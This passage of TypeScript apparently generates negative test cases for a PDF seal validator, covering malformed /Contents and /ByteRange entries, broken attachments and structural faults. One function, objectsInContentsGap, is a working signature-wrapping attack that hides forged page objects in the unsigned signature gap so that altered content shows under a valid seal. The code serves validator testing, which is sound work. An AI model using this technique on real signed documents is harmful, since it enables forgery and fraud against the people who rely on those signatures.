  usf("usf-contents-empty", "/Contents is an empty string <>.", { cms: { raw: "<>" } });
  usf("usf-contents-null", "/Contents is null.", { cms: { raw: "null" } });
  usf("usf-contents-not-hex", "/Contents holds non-hex characters.", { cms: { raw: `<${"zz".repeat(64)}>` } });
  usf("usf-contents-malformed-der", "/Contents is hex of bytes that are not DER (a truncated SEQUENCE).", { cms: latin1Bytes("\x30\x82\xff\xff\x06\x09") });
  usf("usf-byterange-null", "/ByteRange is null.", { byteRange: "null" });
  usf("usf-byterange-odd", "/ByteRange has three numbers.", { byteRange: `[0 ${c.start} ${c.end}]` });
  usf("usf-byterange-negative", "/ByteRange has negative numbers.", { byteRange: `[0 ${c.start} -${c.end} ${len - c.end}]` });
  {
    const bytes = sealPrepared(p, pki);
    const key = "/ByteRange ".length;
    patchSpan(bytes, { start: p.byteRange.start - key, end: p.byteRange.end }, "");
    add("usf-byterange-missing", "The signature dictionary has no /ByteRange (blanked with spaces).", bytes, badSeal());
  }

  // Structural faults in the sealed revision itself (the seal is cryptographically valid).
  const structural = async (name: string, description: string, layout: Partial<PadesLayout>, expected = badAttachments): Promise<void> =>
    add(name, description, (await sealedBase(pki, b.evidence, { contentsSize: b.layout.contentsSize, ...layout })).sealed, expected);
  const atts = b.layout.attachments;
  await structural(
    "second-signature-field",
    "A second (empty) signature field Signature2, under the seal: harmless while DocMDP holds; a warning.",
    { extraSignatureField: true },
    { indication: "TOTAL-PASSED", subIndication: null, check: "seal-signature", pdfsigValid: true },
  );
  await structural("attachment-duplicated", "workflow_token.jwt appears twice in the name tree.", { attachments: [atts[0]!, atts[0]!, ...atts.slice(1)] });
  await structural("attachment-missing", "workflow_token.ocsp is missing.", { attachments: [atts[0]!, atts[2]!] });
  await structural("attachment-bad-flate", "workflow_token.jwt declares /FlateDecode but its data is not zlib.", {
    attachments: [{ ...atts[0]!, corruptFlate: true }, ...atts.slice(1)],
  });
  return out;
}

/**
 * Signature wrapping after Mladenov et al.: the signed bytes stay where they are, the CMS is written
 * short, and the rest of the unsigned /Contents gap holds new objects (a forged page content stream and
 * page) that an appended xref section makes current. The dangling `>` closes a dummy hex string.
 */
async function objectsInContentsGap(b: SealedBase): Promise<Uint8Array> {
  const sealed = b.sealed;
  const c = b.prepared.contents;
  const u = await beginUpdate(sealed);
  const page = firstPage(u);
  const stream = u.ctx.lookup(textStream(u, page.dict, FORGED_LINES))!;
  const streamNum = u.objects.pop()!.num;
  const pageCopy = page.dict.clone(u.ctx);
  pageCopy.set(PDFName.of("Contents"), u.ctx.obj([PDFRef.of(streamNum)]));
  const padNum = streamNum + 1;

  const cmsHex = latin1Text(sealed.subarray(c.start + 1, c.end - 1)).slice(0, 2 * derLength(sealed.subarray(c.start + 1, c.start + 9)));
  const ser = (x: PDFObject): string => latin1Text(serializePdfObject(x));
  let gap = `<${cmsHex}>\n>>\nendobj\n`;
  const offsets = new Map<number, number>();
  offsets.set(streamNum, c.start + gap.length);
  gap += `${streamNum} 0 obj\n${ser(stream)}\nendobj\n`;
  offsets.set(page.ref.objectNumber, c.start + gap.length);
  gap += `${page.ref.objectNumber} 0 obj\n${ser(pageCopy)}\nendobj\n`;
  gap += `${padNum} 0 obj\n<< /Pad <`;
  const width = c.end - c.start;
  if (gap.length + 1 > width) throw new Error("generator: forged objects do not fit in the /Contents gap");
  gap = gap + "0".repeat(width - gap.length - 1) + ">";
  const bytes = new Uint8Array(sealed);
  bytes.set(latin1Bytes(gap), c.start);
  // The original sig dictionary's "\n>>\nendobj" now closes the dummy object padNum.
  return appendIncrementalUpdate(bytes, { objects: [], existing: offsets }).bytes;
}

/** Total length of the DER element whose first bytes are given as hex text (tag, length). */
function derLength(hexStart: Uint8Array): number {
  const h = Buffer.from(latin1Text(hexStart), "hex");
  const first = h[1]!;
  if (first < 0x80) return 2 + first;
  const n = first & 0x7f;
  return 2 + n + h.subarray(2, 2 + n).reduce((acc, x) => acc * 256 + x, 0);
}
